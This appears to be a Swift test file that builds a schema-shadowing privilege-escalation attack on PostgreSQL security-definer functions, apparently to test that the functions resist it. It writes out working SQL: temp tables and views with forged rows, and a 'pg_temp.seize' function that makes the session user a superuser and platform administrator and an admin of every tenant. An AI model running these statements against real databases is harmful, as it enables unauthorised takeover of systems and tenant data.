import Testing

/// A table, view or catalog that the definer functions (and the policies, through them)
/// read by an unqualified name, which an attacker shadows with an object of the same name in
/// their session's temporary schema. The forged rows make the attacker an admin of every
/// tenant, a superuser, or the owner of every table; the attacker guesses tenant ids 1 to 20
/// and item ids 1 to 300.
enum ShadowedName: String, CaseIterable, Sendable, CustomTestStringConvertible {
    case memberships, principals, tenants
    case translationJobs = "translation_jobs"
    case workflowTransitions = "workflow_transitions"
    case items
    case pgRoles = "pg_roles"
    case pgClass = "pg_class"
    case pgAuthMembers = "pg_auth_members"

    var testDescription: String { rawValue }

    /// A query of the forged rows, with the columns of the real object that the functions read.
    var forged: String {
        switch self {
        case .memberships:
            """
            select g::bigint as tenant_id, session_user::text as principal, 'admin'::text as role,
                   '{en,es,fr}'::text[] as languages
            from generate_series(1, 20) g
            """
        case .principals:
            """
            select session_user::text as name, ''::text as display_name, now() as created_at,
                   null::timestamptz as disabled_at
            """
        case .tenants:
            """
            select g::bigint as id, case g when 1 then 'tb' when 2 then 'ta' else 't' || g end as code,
                   'Forged'::text as name, 'en'::text as default_language, '{en,es,fr}'::text[] as languages,
                   null::timestamptz as archived_at, now() as created_at, 'on-approval'::text as translations_publish
            from generate_series(1, 20) g
            """
        case .translationJobs:
            """
            select t::bigint as tenant_id, i::bigint as id, i::bigint as source_id, 1 as source_version,
                   i::bigint as target_id, 'es'::text as language, null::text as translator, null::text as reviewer,
                   null::date as due, 'approved'::text as status, '{}'::jsonb as source_hashes,
                   '{}'::text[] as outdated_fields, 1 as version, session_user::text as created_by,
                   now() as created_at, now() as updated_at
            from generate_series(1, 20) t, generate_series(1, 300) i
            """
        case .workflowTransitions:
            """
            select w as workflow, 'forged-' || s as name,
                   '{draft,in_review,changes_requested,approved,published,archived,requested,in_progress,submitted,outdated}'::text[]
                       as from_states,
                   s as to_state, '{admin,editor,translator,reviewer,viewer}'::text[] as roles,
                   false as requires_comment
            from unnest('{editorial,translation}'::text[]) w,
                 unnest('{draft,in_review,changes_requested,approved,published,archived,requested,in_progress,submitted,outdated}'::text[]) s
            """
        case .items:
            """
            select t::bigint as tenant_id, i::bigint as id, 'note'::text as type, 'es'::text as language,
                   i::bigint as translation_of, 'forged-' || i as slug, 'Forged'::text as title,
                   'published'::text as status, 1 as version, '{}'::jsonb as fields, session_user::text as author,
                   now() as created_at, now() as updated_at, null::timestamptz as deleted_at,
                   now() + interval '1 minute' as publish_at, null::timestamptz as unpublish_at
            from generate_series(1, 20) t, generate_series(1, 300) i
            """
        case .pgRoles:
            """
            select r.oid, r.rolname, true as rolsuper, true as rolinherit, true as rolcreaterole, true as rolcreatedb,
                   true as rolcanlogin, true as rolreplication, r.rolconnlimit, r.rolpassword, r.rolvaliduntil,
                   true as rolbypassrls, r.rolconfig
            from pg_catalog.pg_roles r
            """
        case .pgClass:
            """
            select c.oid, c.relname, c.relnamespace, c.reltype, c.relkind, c.relacl, c.relrowsecurity,
                   c.relforcerowsecurity, (select r.oid from pg_catalog.pg_roles r where r.rolname = session_user) as relowner
            from pg_catalog.pg_class c
            """
        case .pgAuthMembers:
            """
            select g.oid as roleid, m.oid as member, g.oid as grantor, true as admin_option
            from pg_catalog.pg_roles g, pg_catalog.pg_roles m
            where g.rolname in ('micic_admins', 'micic_people', 'micic_public') and m.rolname = session_user
            """
        }
    }

    /// What an attacker makes of the name.
    enum Kind: String, Sendable {
        /// A temporary table holding the forged rows.
        case table
        /// A temporary view of the forged rows that first runs ``seize``, as whoever reads it.
        case view
    }

    /// The statement that makes the temporary object.
    func shadow(as kind: Kind) -> String {
        switch kind {
        case .table: "create temp table \(rawValue) as \(forged)"
        case .view:
            "create temp view \(rawValue) as select forged.* from (\(forged)) forged where (select pg_temp.seize())"
        }
    }

    /// A function in the attacker's temporary schema that, run by a definer function's
    /// owner, makes the attacker a superuser and a platform administrator and an admin of
    /// every tenant. Each step that fails is skipped.
    static let seize = """
        create function pg_temp.seize() returns boolean language plpgsql as $$
        begin
            begin
                execute format('alter role %I superuser createrole createdb bypassrls', session_user);
            exception when others then null;
            end;
            begin
                execute format('grant micic_admins to %I', session_user);
            exception when others then null;
            end;
            begin
                insert into public.memberships (tenant_id, principal, role, languages)
                select t.id, session_user, 'admin', '{}' from public.tenants t
                on conflict (tenant_id, principal) do update set role = 'admin';
            exception when others then null;
            end;
            return true;
        end
        $$
        """
}
